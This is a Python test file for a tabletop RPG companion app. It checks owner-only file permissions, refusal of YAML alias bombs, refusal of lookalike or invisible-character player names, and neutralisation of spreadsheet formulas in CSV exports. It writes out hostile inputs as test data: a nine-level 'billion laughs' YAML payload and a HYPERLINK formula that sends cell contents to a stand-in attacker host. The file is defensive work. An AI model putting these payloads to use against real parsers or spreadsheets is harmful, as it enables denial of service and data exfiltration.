"""Files, rules imports, names and exports (issue 25, item 6): what a device may leave behind.

The campaign file and the HTTPS key are the owner's alone where the OS has modes; a rules file
with YAML aliases (the "billion laughs") is refused before it is built; a name that looks like
a character's, or whose letters the id would drop, is refused; a player's line that a
spreadsheet would run as a formula reaches the GM's CSV as text (real server on loopback).
"""
from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import requests

from companion.report.export import cell
from companion.rules import overlay
from companion.server.app import RunningServer
from companion.session import Session
from companion.session.names import dropped, skeleton
from companion.store.log import Log
from companion.tables.errors import CommandRejected, TableError
from companion.tables.files import Tables
from tests.socket_helpers import SERVER_GM_TOKEN as GM_TOKEN
from tests.socket_helpers import Peer

ROOT = Path(__file__).resolve().parents[2]
POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="modos de arquivo são do POSIX")

# Nine levels of nine aliases: 9⁹ strings once built (the 631-byte bomb, in kind).
ALIAS_BOMB = "\n".join(
    ['a: &a ["rir","rir","rir","rir","rir","rir","rir","rir","rir"]']
    + [f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi")]) + "\n"


def owner_only(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) & 0o077 == 0


# ---------------------------------------------------------------------------- files

@POSIX_ONLY
def test_the_campaign_file_and_its_journal_are_the_owners_alone(tmp_path: Path,
                                                                tables: Tables) -> None:
    db = tmp_path / "mesa.db"
    session = Session.open(db, None, tables)
    assert session.run("rolar 1d6").ok
    for path in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):
        assert path.exists() and owner_only(path), path
    session.close()


@POSIX_ONLY
def test_an_old_world_readable_campaign_is_narrowed_when_opened(tmp_path: Path) -> None:
    db = tmp_path / "velha.db"
    Log.open(db).close()
    db.chmod(0o644)
    Log.open(db).close()
    assert owner_only(db)


@POSIX_ONLY
def test_the_https_key_and_certificate_are_the_owners_alone(tmp_path: Path,
                                                           tables: Tables) -> None:
    pytest.importorskip("cryptography")
    from companion.server.tls import certificate

    cert, key = certificate(tmp_path / "tls", ["127.0.0.1"], tables.narration)
    assert owner_only(cert) and owner_only(key)


# ---------------------------------------------------------------------------- rules imports

def test_yaml_aliases_are_refused_before_anything_is_built(tables: Tables) -> None:
    with pytest.raises(TableError, match="âncoras ou apelidos"):
        overlay.load_import(ALIAS_BOMB, tables.narration, "bomba.yaml")
    assert overlay.load_import("casa.yaml:\n  luz: {}\n", tables.narration) == \
        {"casa.yaml": {"luz": {}}}


def test_the_alias_bomb_is_refused_by_the_server(server: RunningServer,
                                                 session: Session) -> None:
    answer = requests.post(f"{server.url}/api/regras", data=ALIAS_BOMB.encode(), timeout=30,
                           headers={"Authorization": f"Bearer {GM_TOKEN}",
                                    "Content-Type": "application/yaml"})
    assert answer.status_code == 400
    assert "âncoras ou apelidos" in answer.json()["erro"]
    assert session.overrides == {}


def test_the_alias_bomb_is_refused_by_regras_importar(tmp_path: Path, tables: Tables) -> None:
    Session.open(tmp_path / "mesa.db", 1, tables).close()
    bomb = tmp_path / "bomba.yaml"
    bomb.write_text(ALIAS_BOMB, encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "companion", "regras", "importar", "--db",
                           str(tmp_path / "mesa.db"), str(bomb)], capture_output=True,
                          text=True, cwd=ROOT, timeout=120)
    assert done.returncode != 0
    assert "âncoras ou apelidos" in done.stderr and "Traceback" not in done.stderr


# ---------------------------------------------------------------------------- names

def test_names_by_their_skeleton_and_the_letters_the_id_drops() -> None:
    assert skeleton("Dоra") == skeleton("Dora") == skeleton("DORA")  # Cyrillic о
    assert skeleton("Iara") == skeleton("lara") and skeleton("Rnoa") == skeleton("Moa")
    assert skeleton("Zé") == skeleton("Ze") and skeleton("Ana") != skeleton("Ava")
    assert dropped("Dоra") == "о" and dropped("Ana🙂") == "🙂" and dropped("D\u200bora")
    assert dropped("José da Silva") == "" and dropped("Ana Maria 2") == ""


def test_a_lookalike_or_half_invisible_name_is_refused(tmp_path: Path,
                                                       tables: Tables) -> None:
    session = Session.open(tmp_path / "c.db", 3, tables)
    session.join_player("Dora")
    session.join_player("lara")
    for name, said in (("Dоra", "se confunde com Dora"), ("Iara", "se confunde com lara"),
                       ("Ana🙂", "letras que a mesa não distingue"),
                       ("Eva\u200b", "letras que a mesa não distingue")):
        with pytest.raises(CommandRejected, match=said):
            session.join_player(name)
    assert sorted(c.id for c in session.state.party) == ["dora", "lara"]
    assert session.join_player("Zé").character_id == "ze"
    session.close()


# ---------------------------------------------------------------------------- exports

def test_a_formula_typed_by_a_player_exports_as_text(server: RunningServer,
                                                     session: Session) -> None:
    eva = Peer(server.url, {"nome": "Eva"})
    try:
        eva.welcome()
        ack = eva.cmd('=HYPERLINK("http://malvado.test/?"&A1, "clique"), rolar 1d6')
        assert ack["ok"], ack
        ack = eva.cmd("=rolar 1d6")
        assert ack["ok"], ack
    finally:
        eva.close()
    assert [c.text for c in session.commands()[-2:]] == ["rolar 1d6", "rolar 1d6"]
    exported = requests.post(f"{server.url}/relatorio/eventos.csv",
                             data={"token": GM_TOKEN}, timeout=30)
    assert exported.status_code == 200
    cells = [value for row in csv.reader(io.StringIO(exported.text)) for value in row]
    assert "HYPERLINK" not in exported.text
    assert not [value for value in cells if value.startswith(("=", "+", "-", "@"))]


def test_cells_that_start_like_formulas_are_neutralised() -> None:
    assert [cell(v) for v in ("=1+1", "+5", "-x", "@SUM(A1)", "ok", 3, "\tx")] == \
        ["'=1+1", "'+5", "'-x", "'@SUM(A1)", "ok", 3, "'\tx"]
